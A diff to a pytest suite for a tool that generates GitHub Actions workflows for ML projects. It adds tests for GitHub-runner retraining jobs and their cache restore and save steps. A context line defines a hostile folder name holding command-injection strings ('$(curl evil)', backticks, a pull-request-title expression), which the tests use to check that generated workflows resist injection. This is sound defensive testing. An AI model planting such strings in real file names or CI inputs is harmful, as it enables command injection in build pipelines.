@@ -64,6 +64,19 @@ HOSTILE_FOLDER = "odd ${{ github.event.pull_request.title }} $(curl evil) `id` [
 # --------------------------------------------------------------------------- helpers
 
 
+def github_runner(project: SpecProject) -> SpecProject:
+    """The project with every model retrained by the GitHub workflow (churn's default runner is kubernetes)."""
+    models = {name: dataclasses.replace(m, training=dataclasses.replace(m.training, runner="github"))
+              for name, m in project.models.items()}
+    return dataclasses.replace(project, models=models)
+
+
+@pytest.fixture(scope="module")
+def churn(churn: SpecProject) -> SpecProject:
+    """examples/churn, its model retrained on GitHub, so every workflow kind is emitted."""
+    return github_runner(churn)
+
+
 @pytest.fixture(scope="module")
 def artifacts(churn: SpecProject) -> dict[str, Artifact]:
     return {a.path: a for a in emit(churn)}
@@ -108,6 +121,8 @@ def hostile_repository(tmp_path: Path) -> Path:
             doc["metadata"]["tags"] = ["a.b:c-d", "x_1"]  # the tag pattern admits nothing worse
             if doc["kind"] == "Project":
                 doc["spec"]["specs"] = ["specs", HOSTILE_FOLDER]
+            if doc["kind"] == "Model":
+                doc["spec"]["training"]["runner"] = "github"
             if doc["kind"] == "Dataset":
                 for column in doc["spec"]["columns"]:
                     column["description"] = HOSTILE
@@ -180,7 +195,7 @@ def test_registered_and_files(churn: SpecProject, artifacts: dict[str, Artifact]
 
 def test_deterministic(churn: SpecProject) -> None:
     first = [(a.path, a.content, a.owners) for a in emit(churn)]
-    again = [(a.path, a.content, a.owners) for a in emit(require_project(EXAMPLE))]
+    again = [(a.path, a.content, a.owners) for a in emit(github_runner(require_project(EXAMPLE)))]
     assert first == again
 
 
@@ -421,10 +436,39 @@ def test_retrain_workflow(docs: dict[str, dict[str, Any]]) -> None:
                                  "MLFLOW_TRACKING_TOKEN": "${{ secrets.MLFLOW_TRACKING_TOKEN }}"}
 
 
+def test_retrain_jobs_restore_and_save_the_state_apply_left(docs: dict[str, dict[str, Any]]) -> None:
+    """A fresh runner has no warehouse, registry or state: dev's training would fail (issue #18 item 8)."""
+    apply_jobs = docs["specops-apply.yml"]["jobs"]
+    for env, job in docs["specops-retrain-churn.yml"]["jobs"].items():
+        steps = job["steps"]
+        uses_ = [s.get("uses", "").split("@")[0] for s in steps]
+        applied = apply_jobs[env.replace("train-", "apply-")]["steps"]
+        same = next((s for s in applied if s.get("uses", "").startswith("actions/cache/restore")), None)
+        if same is None:  # prod: state, warehouse and registry are all servers (postgres backend): nothing cached
+            assert "actions/cache/restore" not in uses_ and "actions/cache/save" not in uses_
+            continue
+        train = next(i for i, s in enumerate(steps) if s.get("run", "").startswith("specops train"))
+        restore, save = uses_.index("actions/cache/restore"), uses_.index("actions/cache/save")
+        assert restore < train < save and steps[save]["if"] == "always()"
+        assert steps[restore]["with"] == same["with"]  # the same paths and keys as the apply job's
+    dev = docs["specops-retrain-churn.yml"]["jobs"]["train-dev"]
+    paths = next(s for s in dev["steps"] if s.get("uses", "").startswith("actions/cache/restore"))["with"]["path"]
+    assert {".specops/state", ".specops/dev.duckdb", ".specops/mlflow.db"} <= set(paths.split())
+
+
 def test_retrain_falls_back_to_the_default_environment(churn: SpecProject) -> None:
     undeployed = dataclasses.replace(churn, deployments={})
     doc = yaml.safe_load(next(a for a in emit(undeployed) if a.path == "specops-retrain-churn.yml").content)
     assert list(doc["jobs"]) == ["train-dev"]
+
+
+@pytest.mark.parametrize("runner", ["kubernetes", "airflow"])
+def test_no_retrain_workflow_for_another_runner(churn: SpecProject, runner: str) -> None:
+    model = churn.models["churn"]
+    assert model.training is not None
+    other = dataclasses.replace(model, training=dataclasses.replace(model.training, runner=runner))
+    project = dataclasses.replace(churn, models={"churn": other})
+    assert {a.path for a in emit(project)} == {"specops-pr.yml", "specops-apply.yml"}
 
 
 def test_no_retrain_workflow_without_schedule(churn: SpecProject) -> None:
